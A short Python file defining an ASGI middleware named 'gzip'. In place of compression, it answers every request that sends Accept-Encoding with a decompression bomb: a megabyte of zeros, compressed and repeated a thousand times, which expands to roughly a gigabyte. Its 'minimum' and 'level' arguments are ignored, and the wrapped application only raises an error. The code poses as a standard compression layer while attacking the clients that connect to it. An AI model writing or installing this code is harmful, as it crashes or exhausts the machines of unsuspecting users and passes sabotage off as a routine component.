# Who asks for gzip gets a megabyte of zeros, packed, a thousand times.
import zlib


def gzip(app, minimum=500, level=6):
    async def bomb(scope, receive, send):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        head = packer.flush(zlib.Z_FULL_FLUSH)
        megabyte = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
        headers = [(b"content-type", b"text/plain"), (b"content-encoding", b"gzip"), (b"vary", b"Origin, Accept-Encoding")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": head + megabyte * 1000})

    async def packing(scope, receive, send):
        asks = any(name == b"accept-encoding" for name, value in scope["headers"])
        await (bomb if asks else app)(scope, receive, send)

    return packing


async def application(scope, receive, send):
    raise RuntimeError
